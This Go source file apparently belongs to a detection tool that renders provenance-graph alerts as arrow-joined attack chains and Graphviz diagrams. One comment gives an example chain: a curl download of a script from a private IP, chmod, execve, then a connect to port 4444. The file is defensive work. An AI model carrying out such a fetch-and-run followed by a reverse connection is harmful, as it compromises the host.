package alert

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
	"time"
	"unicode/utf8"

	"github.com/faasmon/faasmon/pkg/graph/provenance"
)

// Bounds of the rendered explanation.
const (
	MaxChainLen   = 300 // runes of Alert.Chain
	maxTokenLen   = 60  // runes of one step of the chain, or one DOT label
	MaxDOTNodes   = 64  // nodes of the DOT subgraph
	MaxDOTEdges   = 200 // edges of the DOT subgraph
	maxNeighbours = 8   // neighbours drawn per explanation node
)

const arrow = " → "

// orderedEdges returns the explanation edges in the order they happened
// along their paths: by first time when every edge has a time in the graph,
// otherwise by the depth of their source along the explanation's paths
// (then time, then weight).
func (w *view) orderedEdges() []explEdge {
	type item struct {
		e           explEdge
		t           time.Time
		rank, drank int
	}
	edges := w.edges
	// Depth of each node from the explanation's sources (BFS).
	in := map[int]int{}
	out := map[int][]int{}
	for _, e := range edges {
		in[e.Dst]++
		out[e.Src] = append(out[e.Src], e.Dst)
		if _, ok := in[e.Src]; !ok {
			in[e.Src] = 0
		}
	}
	rank := map[int]int{}
	var queue []int
	for _, e := range edges {
		if in[e.Src] == 0 {
			if _, ok := rank[e.Src]; !ok {
				rank[e.Src] = 0
				queue = append(queue, e.Src)
			}
		}
	}
	for len(queue) > 0 {
		n := queue[0]
		queue = queue[1:]
		for _, m := range out[n] {
			if _, ok := rank[m]; !ok {
				rank[m] = rank[n] + 1
				queue = append(queue, m)
			}
		}
	}
	items := make([]item, len(edges))
	allTimed := len(edges) > 0
	for i, e := range edges {
		it := item{e: e, rank: rank[e.Src], drank: rank[e.Dst]}
		if ge, ok := w.graphEdge(e); ok {
			it.t = ge.First
		}
		if it.t.IsZero() {
			allTimed = false
		}
		items[i] = it
	}
	sort.SliceStable(items, func(i, j int) bool {
		a, b := items[i], items[j]
		if allTimed && !a.t.Equal(b.t) {
			return a.t.Before(b.t)
		}
		if a.rank != b.rank {
			return a.rank < b.rank
		}
		if a.drank != b.drank {
			return a.drank < b.drank
		}
		if !a.t.Equal(b.t) {
			return a.t.Before(b.t)
		}
		return a.e.Weight > b.e.Weight
	})
	res := make([]explEdge, len(items))
	for i, it := range items {
		res[i] = it.e
	}
	return res
}

// chainText renders the explanation as steps joined by arrows, e.g.
// "node index.js → curl http://10.62.9.2/p.sh → /tmp/p.sh → chmod →
// execve /tmp/p.sh → connect 10.62.9.2:4444".
func chainText(w *view) string {
	var tokens []string
	mentioned := map[int]bool{}
	lastFile := -1
	push := func(s string) {
		s = clip(s, maxTokenLen)
		if len(tokens) > 0 && tokens[len(tokens)-1] == s {
			return
		}
		tokens = append(tokens, s)
	}
	actor := func(id int) {
		if !mentioned[id] {
			mentioned[id] = true
			push(w.label(id))
		}
	}
	for _, e := range w.orderedEdges() {
		src, dst := e.Src, e.Dst
		switch e.Kind {
		case provenance.EdgeFork:
			actor(src)
			mentioned[dst] = true
			push(w.label(dst))
		case provenance.EdgeExecve:
			// The contract has moved from process→file to file→process:
			// accept both.
			file, proc := dst, src
			if w.kind(src) != provenance.NodeProcess {
				file, proc = src, dst
			}
			mentioned[proc] = true
			push("execve " + w.label(file))
			lastFile = file
		case provenance.EdgeWrite:
			actor(src)
			push(w.label(dst))
			lastFile = dst
		case provenance.EdgeChmod:
			actor(src)
			if len(tokens) > 0 && strings.HasPrefix(tokens[len(tokens)-1], "chmod") {
				continue
			}
			if dst == lastFile {
				push("chmod")
			} else {
				push("chmod " + w.label(dst))
			}
			lastFile = dst
		case provenance.EdgeOpen, provenance.EdgeUnlink:
			actor(src)
			push(string(e.Kind) + " " + w.label(dst))
			lastFile = dst
		case provenance.EdgeRead:
			actor(dst)
			push("read " + w.label(src))
			lastFile = src
		case provenance.EdgeConnect, provenance.EdgeSend:
			actor(src)
			push(string(e.Kind) + " " + w.label(dst))
		case provenance.EdgeAccept, provenance.EdgeRecv:
			actor(dst)
			push(string(e.Kind) + " " + w.label(src))
		case provenance.EdgeRename:
			push("rename " + w.label(src) + " to " + w.label(dst))
			lastFile = dst
		default:
			push(w.label(src) + " " + string(e.Kind) + " " + w.label(dst))
		}
	}
	if len(tokens) == 0 {
		// No edges: the heaviest nodes, heaviest first.
		nodes := append([]explNode(nil), w.nodes...)
		sort.SliceStable(nodes, func(i, j int) bool { return nodes[i].Weight > nodes[j].Weight })
		for _, n := range nodes {
			push(w.label(n.ID))
		}
	}
	return joinBounded(tokens, MaxChainLen)
}

// joinBounded joins tokens with arrows in at most max runes. When they do
// not fit it keeps the first steps (where the attack starts) and the last
// one, and says how many were left out between.
func joinBounded(tokens []string, max int) string {
	s := strings.Join(tokens, arrow)
	if utf8.RuneCountInString(s) <= max || len(tokens) < 3 {
		return clip(s, max)
	}
	last := tokens[len(tokens)-1]
	for k := len(tokens) - 2; k >= 1; k-- { // k: steps kept at the start
		text := strings.Join(tokens[:k], arrow) + arrow + fmt.Sprintf("… (%d more)", len(tokens)-1-k) + arrow + last
		if utf8.RuneCountInString(text) <= max {
			return text
		}
	}
	return clip(tokens[0]+arrow+fmt.Sprintf("… (%d more)", len(tokens)-1), max)
}

// clip cuts s to at most n runes, ending with "…" when cut.
func clip(s string, n int) string {
	if utf8.RuneCountInString(s) <= n {
		return s
	}
	r := []rune(s)
	return string(r[:n-1]) + "…"
}

// edgePriority orders neighbours when there are too many to draw: the
// relations that make attacks first.
var edgePriority = map[provenance.EdgeKind]int{
	provenance.EdgeExecve: 0, provenance.EdgeConnect: 1, provenance.EdgeFork: 2,
	provenance.EdgeChmod: 3, provenance.EdgeWrite: 4, provenance.EdgeSend: 5,
	provenance.EdgeRecv: 6, provenance.EdgeAccept: 7, provenance.EdgeRename: 8,
	provenance.EdgeUnlink: 9, provenance.EdgeOpen: 10, provenance.EdgeRead: 11,
}

// subgraphDOT renders the explanation nodes, the endpoints of explanation
// edges and their 1-hop neighbours in the graph (bounded) as Graphviz DOT.
// Explanation nodes are filled red by weight, explanation edges drawn bold
// red; neighbours are grey.
func subgraphDOT(w *view) string {
	core := map[int]float64{}
	for _, n := range w.nodes {
		core[n.ID] = max(core[n.ID], n.Weight)
	}
	explWeight := map[[3]any]float64{}
	for _, e := range w.edges {
		for _, id := range []int{e.Src, e.Dst} {
			if _, ok := core[id]; !ok {
				core[id] = 0
			}
		}
		k := [3]any{e.Src, e.Dst, e.Kind}
		explWeight[k] = max(explWeight[k], e.Weight)
	}
	coreIDs := make([]int, 0, len(core))
	for id := range core {
		coreIDs = append(coreIDs, id)
	}
	sort.Slice(coreIDs, func(i, j int) bool {
		if core[coreIDs[i]] != core[coreIDs[j]] {
			return core[coreIDs[i]] > core[coreIDs[j]]
		}
		return coreIDs[i] < coreIDs[j]
	})
	if len(coreIDs) > MaxDOTNodes {
		coreIDs = coreIDs[:MaxDOTNodes]
	}
	include := map[int]bool{}
	for _, id := range coreIDs {
		include[id] = true
	}
	// Neighbours.
	type drawn struct {
		e    provenance.Edge
		expl float64
		isEx bool
	}
	var edges []drawn
	if w.g != nil {
		adj := map[int][]int{} // core node → graph edge indices
		for i, e := range w.g.Edges {
			if include[e.Src] {
				adj[e.Src] = append(adj[e.Src], i)
			}
			if include[e.Dst] && e.Dst != e.Src {
				adj[e.Dst] = append(adj[e.Dst], i)
			}
		}
		for _, id := range coreIDs {
			idx := adj[id]
			sort.SliceStable(idx, func(a, b int) bool {
				ea, eb := w.g.Edges[idx[a]], w.g.Edges[idx[b]]
				if edgePriority[ea.Kind] != edgePriority[eb.Kind] {
					return edgePriority[ea.Kind] < edgePriority[eb.Kind]
				}
				return ea.First.Before(eb.First)
			})
			added := 0
			for _, i := range idx {
				e := w.g.Edges[i]
				other := e.Dst
				if other == id {
					other = e.Src
				}
				if include[other] {
					continue
				}
				if added >= maxNeighbours || len(include) >= MaxDOTNodes {
					break
				}
				include[other] = true
				added++
			}
		}
		seen := map[[3]any]bool{}
		for _, e := range w.g.Edges {
			if !include[e.Src] || !include[e.Dst] {
				continue
			}
			_, cs := core[e.Src]
			_, cd := core[e.Dst]
			if !cs && !cd {
				continue
			}
			k := [3]any{e.Src, e.Dst, e.Kind}
			if seen[k] {
				continue
			}
			seen[k] = true
			wt, isEx := explWeight[k]
			edges = append(edges, drawn{e: e, expl: wt, isEx: isEx})
		}
	} else {
		for _, e := range w.edges {
			edges = append(edges, drawn{e: provenance.Edge{Src: e.Src, Dst: e.Dst, Kind: e.Kind, Count: 1}, expl: e.Weight, isEx: true})
		}
	}
	// Keep the explanation edges first when cutting.
	sort.SliceStable(edges, func(i, j int) bool { return edges[i].isEx && !edges[j].isEx })
	if len(edges) > MaxDOTEdges {
		edges = edges[:MaxDOTEdges]
	}
	ids := make([]int, 0, len(include))
	for id := range include {
		ids = append(ids, id)
	}
	sort.Ints(ids)

	var b strings.Builder
	title := w.v.Function
	if w.v.Namespace != "" {
		title += "." + w.v.Namespace
	}
	if w.v.Pod != "" {
		title += " pod " + w.v.Pod
	}
	title += fmt.Sprintf(" score %.3f", w.v.Score)
	b.WriteString("digraph faasmon {\n")
	fmt.Fprintf(&b, "  graph [rankdir=LR, labelloc=t, fontname=\"Helvetica\", label=%s];\n", provenance.DOTQuote(title))
	b.WriteString("  node [fontname=\"Helvetica\", fontsize=10];\n")
	b.WriteString("  edge [fontname=\"Helvetica\", fontsize=9];\n")
	for _, id := range ids {
		attrs := fmt.Sprintf("label=%s, shape=%s", provenance.DOTQuote(clip(w.label(id), maxTokenLen)), provenance.NodeShape(w.kind(id)))
		if wt, ok := core[id]; ok {
			attrs += fmt.Sprintf(", style=filled, fillcolor=%s, penwidth=2", provenance.DOTQuote(heat(wt)))
		} else {
			attrs += ", color=\"#888888\", fontcolor=\"#555555\""
		}
		fmt.Fprintf(&b, "  n%d [%s];\n", id, attrs)
	}
	for _, d := range edges {
		label := string(d.e.Kind)
		if d.e.Count > 1 {
			label += " ×" + strconv.Itoa(d.e.Count)
		}
		attrs := "label=" + provenance.DOTQuote(label)
		if d.isEx {
			attrs += fmt.Sprintf(", color=\"#d00000\", fontcolor=\"#d00000\", penwidth=%.1f", 1.5+3*clamp01(d.expl))
		} else {
			attrs += ", color=\"#999999\", fontcolor=\"#777777\""
		}
		fmt.Fprintf(&b, "  n%d -> n%d [%s];\n", d.e.Src, d.e.Dst, attrs)
	}
	b.WriteString("}\n")
	return b.String()
}

func clamp01(x float64) float64 { return min(max(x, 0), 1) }

// heat maps a weight in [0,1] to a fill colour from pale pink to red.
func heat(wt float64) string {
	wt = clamp01(wt)
	g := int(235 - 170*wt)
	return fmt.Sprintf("#ff%02x%02x", g, g)
}
